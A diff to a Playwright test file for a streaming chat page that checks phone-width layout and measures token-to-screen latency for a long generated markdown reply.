+    assert violations == []
+
+
 # --- How it looks, and how fast it shows ----------------------------------------------------------
 
 
-def test_screenshots_of_a_conversation_on_desktop_and_phone(chat_page, upstream):
-    """Save test-artifacts/chat.png and chat-phone.png; at phone width nothing may scroll sideways."""
+def test_screenshots_on_a_phone_nothing_scrolls_sideways(chat_page, upstream):
+    """Save test-artifacts/chat-phone.png; at phone width the page never scrolls sideways (code and tables do)."""
     upstream.reset(tokens=["Server-Sent Events ", "stream ", "the reply ", "token by token, ", "so it types itself."])
     say(chat_page, "How does this page show the reply?")
     expect(reply_note(chat_page)).to_contain_text("tokens")
-    upstream.script.tokens = ["A long word does not widen the page: ", "x" * 120, "\nNew lines stay."]
+    long_code = "```\n" + "x = '" + "y" * 120 + "'\n```\n\n"
+    upstream.script.tokens = ["A long word: ", "x" * 120, "\n\n", long_code, *MARKDOWN_REPLY[-4:]]
     say(chat_page, "And a very long word?")
     expect(reply_note(chat_page)).to_contain_text("tokens")
 
-    ARTIFACTS.mkdir(exist_ok=True)
-    chat_page.screenshot(path=ARTIFACTS / "chat.png", full_page=True)
     chat_page.set_viewport_size(PHONE)
+    ARTIFACTS.mkdir(exist_ok=True)
     chat_page.screenshot(path=ARTIFACTS / "chat-phone.png", full_page=True)
 
     assert chat_page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
@@ -294,56 +831,121 @@ def test_screenshots_of_a_conversation_on_desktop_and_phone(chat_page, upstream)
     expect(chat_page.get_by_role("button", name="Send")).to_be_in_viewport()
 
 
-SHOWN = """() => {
-    // Record when each change to the reply reaches the DOM, and the next frame after it (a paint
-    // follows that frame). Wall-clock milliseconds, to compare with the test's time.time().
-    window.shown = [];
+def long_markdown_reply(count=2000):
+    """The tokens of a long markdown reply: headings, paragraphs, lists, code blocks and tables.
+
+    Each token holds one id (k0000, k0001, ...), visible in the page once that token is shown.
+    """
+    tokens = []
+
+    def add(template):
+        tokens.append(template.format(id=f"k{len(tokens):04d}"))
+
+    while len(tokens) < count:
+        add("## Part {id}\n\n")
+        for _ in range(30):
+            add("word {id} ")
+        add("**bold {id}** ")
+        add("and `code {id}`.\n\n")
+        for _ in range(4):
+            add("- item {id}\n")
+        add("\n```python\ndef f_{id}(x):\n")
+        for _ in range(20):
+            add("    x = x + '{id}'\n")
+        add("    return x\n```\n\n| name | value |\n|---|---:|\n| {id} | 1 |\n")
+        for _ in range(4):
+            add("| {id} | 2 |\n")
+        add("\nThe end of part {id}.\n\n")
+    return tokens[:count]
+
+
+WATCH_TOKENS = """(ids) => {
+    // Note when each token's id first shows in the reply, and when the frame that shows it has been
+    // rendered: the page renders in requestAnimationFrame, and a task queued from inside a frame
+    // runs after that frame's paint. Wall-clock milliseconds, to compare with the test's time.time().
+    window.seen = [];
+    window.longTasks = [];
+    new PerformanceObserver((list) => {
+        for (const entry of list.getEntries()) window.longTasks.push(entry.duration);
+    }).observe({ type: "longtask" });
     const now = () => performance.timeOrigin + performance.now();
+    const channel = new MessageChannel();
+    const waiting = [];
+    channel.port1.onmessage = () => {
+        const painted = now();
+        for (const entry of waiting.splice(0)) entry.painted = painted;
+    };
     new MutationObserver(() => {
-        const text = document.querySelector(".message.assistant .text")?.textContent ?? "";
-        const entry = { text, dom: now(), frame: null };
-        window.shown.push(entry);
-        requestAnimationFrame(() => { entry.frame = now(); });
+        const text = document.querySelector(".message.assistant:last-child .text")?.textContent ?? "";
+        const dom = now();
+        const before = window.seen.length;
+        while (window.seen.length < ids.length && text.includes(ids[window.seen.length])) {
+            const entry = { dom, painted: null };
+            window.seen.push(entry);
+            waiting.push(entry);
+        }
+        if (window.seen.length > before) channel.port2.postMessage(null);
     }).observe(document.getElementById("conversation"), { subtree: true, childList: true, characterData: true });
 }"""
 
 
-def test_token_to_screen_delay(chat_page, upstream):
-    """Measure upstream write -> text in the page; report it, assert only a coarse bound."""
-    tokens = [f"m{i} " for i in range(40)]
-    upstream.reset(tokens=tokens, delay=0.05)
-    chat_page.evaluate(SHOWN)
+def test_token_to_screen_of_a_long_markdown_reply(chat_page, upstream):
+    """2,000 tokens of markdown with code blocks, 250 a second: upstream write -> shown, median and max.
+
+    The figures go to test-artifacts/token-latency.txt; the assertion is coarse, as the machine is shared.
+    """
+    tokens = long_markdown_reply()
+    ids = [f"k{i:04d}" for i in range(len(tokens))]
+    upstream.reset(tokens=tokens, delay=0.004)
+    chat_page.evaluate(WATCH_TOKENS, ids)
     # Both sides use the system's wall clock: check they agree within one round trip to the page.
     before = time.time() * 1000
     page_now = chat_page.evaluate("performance.timeOrigin + performance.now()")
     after = time.time() * 1000
     assert before - 2 <= page_now <= after + 2, (before, page_now, after)
     wall_minus_monotonic = time.time() - time.monotonic()
-    say(chat_page, "Hi")
+    say(chat_page, "Write a long one")
     # Sleep, not poll, while it streams: the fake upstream notes each send time in a thread of this
     # process, which polling would slow down (the GIL), making the sends look later than they were.
-    time.sleep(len(tokens) * 0.05 + 0.3)
-    expect(reply_note(chat_page)).to_contain_text("tokens")
+    time.sleep(len(tokens) * 0.004 + 1)
+    expect(reply_note(chat_page)).to_contain_text("tokens", timeout=30_000)
 
-    shown = chat_page.evaluate("window.shown")
+    seen = chat_page.evaluate("window.seen")
+    long_tasks = chat_page.evaluate("window.longTasks")
     sent = [(t + wall_minus_monotonic) * 1000 for t in upstream.received[0].sent]
-    dom_delays, frame_delays = [], []
-    for i, sent_at in enumerate(sent):
-        complete = "".join(tokens[: i + 1])
-        first = next(entry for entry in shown if entry["text"].startswith(complete))
-        dom_delays.append(first["dom"] - sent_at)
-        frame_delays.append(first["frame"] - sent_at)
-
+    assert len(seen) == len(sent) == len(tokens)
+    to_dom = [entry["dom"] - at for entry, at in zip(seen, sent, strict=True)]
+    to_screen = [entry["painted"] - at for entry, at in zip(seen, sent, strict=True)]
+    size = len("".join(tokens))
+    # The page's own work per frame at the end of the reply, where it is largest: lex the whole reply,
+    # rebuild what changed. (renderMarkdown and turns are the page script's globals.)
+    render = chat_page.evaluate(
+        """() => {
+            const source = turns.at(-1).answer;
+            const view = { text: document.createElement("div"), blocks: [], links: "{}" };
+            let started = performance.now();
+            renderMarkdown(view, source);
+            const whole = performance.now() - started;
+            started = performance.now();
+            for (let i = 0; i < 50; i++) renderMarkdown(view, source + ` more${i}`);
+            return { whole, grown: (performance.now() - started) / 50 };
+        }"""
+    )
     report = (
-        f"token -> DOM: median {statistics.median(dom_delays):.1f} ms, max {max(dom_delays):.1f} ms, "
-        f"min {min(dom_delays):.1f} ms; "
-        f"token -> next frame: median {statistics.median(frame_delays):.1f} ms, max {max(frame_delays):.1f} ms "
-        f"({len(sent)} tokens, 50 ms apart, upstream -> gunicorn -> Chromium on 127.0.0.1)"
+        f"Markdown reply of {len(tokens)} tokens ({size:,} characters: headings, lists, code blocks, tables), "
+        f"one token every 4 ms, upstream -> gunicorn -> Chromium on 127.0.0.1, rendered once per frame.\n"
+        f"token -> DOM:    median {statistics.median(to_dom):.1f} ms, max {max(to_dom):.1f} ms\n"
+        f"token -> screen: median {statistics.median(to_screen):.1f} ms, max {max(to_screen):.1f} ms, "
+        f"95th percentile {statistics.quantiles(to_screen, n=20)[-1]:.1f} ms "
+        f"(until the frame that shows it has painted)\n"
+        f"one render at the end: {render['grown']:.2f} ms when a token is added (lex the whole reply, "
+        f"rebuild its last block), {render['whole']:.1f} ms from scratch\n"
+        f"long tasks (over 50 ms) in the page: {len(long_tasks)}"
+        + (f", longest {max(long_tasks):.0f} ms" if long_tasks else "")
     )
     ARTIFACTS.mkdir(exist_ok=True)
     (ARTIFACTS / "token-latency.txt").write_text(report + "\n")
     print(report)
-    assert len(dom_delays) == len(tokens)
     # Never much below zero: the send time is noted just after the write, so it can trail it a little.
-    assert min(dom_delays) > -5
-    assert statistics.median(dom_delays) < 250  # coarse: shown as it streams, not batched
+    assert min(to_dom) > -5
+    assert statistics.median(to_screen) < 50  # coarse: a frame or two, not a growing backlog
